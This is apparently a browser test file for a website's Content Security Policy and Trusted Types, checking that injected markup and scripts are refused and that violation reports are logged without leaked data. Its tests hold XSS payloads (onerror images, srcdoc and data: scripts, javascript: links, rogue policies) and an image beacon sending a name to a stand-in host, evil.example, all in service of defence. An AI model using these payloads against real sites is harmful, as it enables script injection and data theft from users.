// Protects: no script runs on a page that is not ours.
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { until } from '#testing/until.ts';
import { pageShown, ready } from './harness/browser.ts';
import { setupJourney } from './harness/journey.ts';
import { nowhere, oneService, templates } from './harness/site-paths.ts';

/** What somebody could do who has found a way to put text into a page: nothing that runs. */

const refusal =
  /violates the following Content Security [Pp]olicy directive|This document requires '\w+' assignment|Trusted Type/;
const journey = setupJourney();

test('what a page refuses is reported to the server, which logs where and from where', async () => {
  const page = await journey.visit('/about', { expected: /violates|refused|ERR_/i });
  await page.evaluate(
    () => void document.body.appendChild(new Image()).setAttribute('src', 'https://evil.example/pixel?who=Aoife'),
  );
  await until('the report', () => journey.product.output().includes('img-src'));
  const line =
    journey.product
      .output()
      .split('\n')
      .find((one) => one.includes('img-src')) ?? '';
  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://evil.example', path: '/about' });
  expect(line).not.toContain('Aoife');
});

test('a page of every template is reached by links, and nothing of ours is refused', async () => {
  const page = await journey.newPage({ reducedMotion: 'reduce' });
  await watchViolations(page);
  await page.goto(journey.product.url);
  // Only the home page has a link to the reviews, only the list to each guide; a wide screen reaches the roadside page by /contact.
  const last = ['/', '/reviews'];
  for (const path of [...templates.filter((one) => one !== nowhere && !last.includes(one)), ...last]) {
    const listed = path.startsWith('/guides/') ? '/guides' : path === '/roadside' ? '/contact' : null;
    if (listed) await follow(page, listed);
    await follow(page, path);
    if (path.startsWith('/services/')) await page.locator('.prose p').first().waitFor();
    expect(await violations(page), path).toEqual([]);
  }
});

/** Follows a link wherever it is: in the header, in the footer, in a menu that is closed. */
async function follow(page: Page, path: string): Promise<void> {
  await ready(page);
  const link = page.locator(`a[href="${path}"]`).first();
  await link.evaluate((anchor: HTMLAnchorElement) => anchor.click());
  await pageShown(page, path);
}

test.each(['/', '/make-a-claim', oneService])('%s: markup is not taken', async (path) => {
  const page = await journey.visit(path, { expected: refusal });
  const left = await page.evaluate(() => {
    const place = document.body.appendChild(document.createElement('div'));
    const insertions = [
      () => Object.assign(place, { innerHTML: '<img src=x onerror="window.ran = true">' }),
      () => place.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>'),
      () => place.append(document.createRange().createContextualFragment('<script>window.ran = true</script>')),
    ];
    for (const insert of insertions) {
      try {
        insert();
      } catch {
        // The browser refuses it.
      }
    }
    return place.innerHTML;
  });
  expect(left).toBe('');
  expect(await ran(page)).toBe(false);
});

test.each<[string, () => void]>([
  ['a script with text', () => Object.assign(document.createElement('script'), { text: 'window.ran = true' })],
  [
    'a script from elsewhere',
    () => Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran=true' }),
  ],
  ['a handler', () => document.body.setAttribute('onclick', 'window.ran = true')],
  ['a worker', () => new Worker('data:text/javascript,0')],
  ['another policy', () => (window as unknown as Typed).trustedTypes.createPolicy('mine', { createScript: (text) => text })],
  ['a default policy', () => (window as unknown as Typed).trustedTypes.createPolicy('default', { createScript: (text) => text })],
])('%s cannot be made', async (_, make) => {
  const page = await journey.visit('/contact', { expected: refusal });
  await watchViolations(page);
  const outcome = await page.evaluate(
    `try { const made = (${make})(); made?.nodeType && document.body.append(made); document.body.click() } catch (error) { String(error) }`,
  );
  await expect.poll(async () => [outcome, await violations(page)]).not.toEqual([undefined, []]);
  expect(await ran(page)).toBe(false);
});

test('an address that a link cannot have does not run', async () => {
  const page = await journey.visit('/', { expected: refusal });
  await watchViolations(page);
  await page.evaluate(() =>
    Object.assign(document.body.appendChild(document.createElement('a')), { href: 'javascript:void(window.ran = true)' }).click(),
  );
  await expect.poll(() => violations(page)).not.toEqual([]);
  expect(await ran(page)).toBe(false);
});

type Typed = { trustedTypes: { createPolicy: (name: string, rules: Record<string, (text: string) => string>) => unknown } };

function ran(page: Page): Promise<boolean> {
  return page.evaluate(() => 'ran' in window);
}

/** Collects violations of the policy on this page and on all that it loads. */
async function watchViolations(page: Page): Promise<void> {
  const watch = () => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    );
  };
  await page.addInitScript(watch);
  await page.evaluate(watch);
}

function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { seen: string[] }).seen);
}
